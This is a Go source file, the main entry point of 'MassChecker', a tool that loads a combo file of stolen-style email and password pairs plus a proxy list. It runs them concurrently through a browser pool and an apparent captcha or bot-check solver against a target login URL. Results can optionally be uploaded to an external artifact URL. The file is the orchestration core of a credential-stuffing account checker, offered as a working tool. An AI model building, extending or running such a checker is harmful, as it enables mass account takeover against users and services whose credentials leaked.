// Package main provides the entry point for MassChecker.
package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/rs/zerolog"
	"github.com/rs/zerolog/log"

	"github.com/exomass/masschecker-go/internal/browser"
	"github.com/exomass/masschecker-go/internal/check"
	"github.com/exomass/masschecker-go/internal/config"
	"github.com/exomass/masschecker-go/internal/detect"
	"github.com/exomass/masschecker-go/internal/selectors"
	"github.com/exomass/masschecker-go/internal/solver"
	"github.com/exomass/masschecker-go/internal/stats"
	"github.com/exomass/masschecker-go/internal/storage"
	"github.com/exomass/masschecker-go/internal/types"
	"github.com/exomass/masschecker-go/pkg/version"
)

func main() {
	os.Exit(run())
}

func run() int {
	cfg := config.Load()

	logFile := setupLogging(cfg)
	if logFile != nil {
		defer logFile.Close()
	}

	cfg.Validate()

	if !cfg.TUIEnabled {
		printBanner()
	}

	if err := types.ValidateTargetURL(cfg.TargetURL); err != nil {
		log.Error().Err(err).Msg("TARGET_URL is required and must be a valid http(s) URL")
		fmt.Fprintln(os.Stderr, "error:", err)
		return 1
	}

	creds, err := storage.ReadAccounts(cfg.CombosPath)
	if err != nil {
		log.Error().Err(err).Str("path", cfg.CombosPath).Msg("Failed to load combo file")
		fmt.Fprintln(os.Stderr, "error:", err)
		return 1
	}
	if len(creds) == 0 {
		fmt.Fprintln(os.Stderr, "error: combo file has no usable credentials")
		return 1
	}

	proxies := cfg.Proxies
	if len(proxies) == 0 && cfg.ProxiesPath != "" {
		proxies, err = storage.ReadProxies(cfg.ProxiesPath)
		if err != nil {
			log.Error().Err(err).Str("path", cfg.ProxiesPath).Msg("Failed to load proxy file")
			fmt.Fprintln(os.Stderr, "error:", err)
			return 1
		}
	}
	cfg.Proxies = proxies

	// External selector overrides with optional hot-reload.
	if cfg.SelectorsPath != "" {
		mgr, err := selectors.NewManager(cfg.SelectorsPath, cfg.SelectorsHotReload)
		if err != nil {
			log.Warn().Err(err).Msg("Selector override file unusable, using embedded defaults")
		} else {
			defer mgr.Close()
		}
	}

	log.Info().
		Int("credentials", len(creds)).
		Int("proxies", len(proxies)).
		Int("concurrency", cfg.MaxConcurrentChecks).
		Str("target", cfg.TargetURL).
		Msg("Starting batch")

	pool := browser.NewPool(cfg)
	detector := detect.New()
	orchestrator := solver.New(cfg, pool, detector)
	statsMgr := stats.NewManager()

	var uploader storage.Uploader
	if cfg.ArtifactUploadURL != "" {
		uploader = storage.NewHTTPUploader(cfg.ArtifactUploadURL)
		log.Info().Str("sink", cfg.ArtifactUploadURL).Msg("Artifact uploads enabled")
	}
	checker := check.New(cfg, pool, detector, orchestrator, statsMgr, uploader)

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()

	summary, results := runBatch(ctx, cfg, checker, creds, proxies)

	if err := storage.SaveOutcomes(cfg.ResultsPath, summary, results); err != nil {
		log.Error().Err(err).Msg("Failed to save results")
	} else if uploader != nil {
		if data, rerr := os.ReadFile(cfg.ResultsPath); rerr == nil {
			storage.UploadAsync(uploader, filepath.Base(cfg.ResultsPath), data)
		}
	}

	fmt.Println(renderSummary(summary, statsMgr.All()))

	statsMgr.Close()
	if err := pool.Close(); err != nil {
		log.Error().Err(err).Msg("Browser pool close error")
	}

	if ctx.Err() != nil {
		log.Warn().Msg("Batch interrupted")
		return 130
	}
	log.Info().Msg("Batch finished")
	return 0
}

// runBatch runs the checks, either behind the interactive progress view
// or with plain per-result log lines.
func runBatch(ctx context.Context, cfg *config.Config, checker *check.Checker, creds []types.Credential, proxies []string) (types.BatchSummary, []types.CheckResult) {
	if !cfg.TUIEnabled {
		return checker.RunBatch(ctx, creds, proxies, func(done, total int, r types.CheckResult) {
			log.Info().
				Int("done", done).
				Int("total", total).
				Str("email", r.Credential.Email).
				Str("status", string(r.Status)).
				Dur("elapsed", r.Elapsed).
				Msg("Check complete")
		})
	}

	batchCtx, cancel := context.WithCancel(ctx)
	defer cancel()

	program := tea.NewProgram(newProgressModel(len(creds), cfg.TargetURL, cancel))

	var (
		summary types.BatchSummary
		results []types.CheckResult
	)
	batchDone := make(chan struct{})
	go func() {
		summary, results = checker.RunBatch(batchCtx, creds, proxies, func(done, total int, r types.CheckResult) {
			program.Send(resultMsg{result: r, done: done})
		})
		close(batchDone)
		program.Send(batchDoneMsg{})
	}()

	if _, err := program.Run(); err != nil {
		log.Error().Err(err).Msg("Progress view failed, winding batch down")
		cancel()
	}
	// In-flight checks are bounded by their timeouts, so the batch always
	// returns once the context is canceled or the work runs out.
	<-batchDone
	return summary, results
}

// setupLogging configures zerolog. When the progress view owns the
// terminal, log lines go to the configured file instead.
func setupLogging(cfg *config.Config) *os.File {
	var out io.Writer = os.Stdout
	var file *os.File

	if cfg.TUIEnabled {
		f, err := os.OpenFile(cfg.LogFile, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o600)
		if err == nil {
			file = f
			out = f
		} else {
			out = io.Discard
		}
	}

	log.Logger = log.Output(zerolog.ConsoleWriter{
		Out:        out,
		TimeFormat: time.RFC3339,
		NoColor:    file != nil,
	})

	switch cfg.LogLevel {
	case "debug":
		zerolog.SetGlobalLevel(zerolog.DebugLevel)
	case "info":
		zerolog.SetGlobalLevel(zerolog.InfoLevel)
	case "warn":
		zerolog.SetGlobalLevel(zerolog.WarnLevel)
	case "error":
		zerolog.SetGlobalLevel(zerolog.ErrorLevel)
	default:
		zerolog.SetGlobalLevel(zerolog.InfoLevel)
	}
	return file
}

// printBanner prints the startup banner.
func printBanner() {
	banner := `
 __  __                  ____ _               _
|  \/  | __ _ ___ ___   / ___| |__   ___  ___| | _____ _ __
| |\/| |/ _' / __/ __| | |   | '_ \ / _ \/ __| |/ / _ \ '__|
| |  | | (_| \__ \__ \ | |___| | | |  __/ (__|   <  __/ |
|_|  |_|\__,_|___/___/  \____|_| |_|\___|\___|_|\_\___|_|
`
	fmt.Println(banner)
	log.Info().
		Str("version", version.Full()).
		Str("go_version", version.GoVersion()).
		Msg("Starting MassChecker")
}
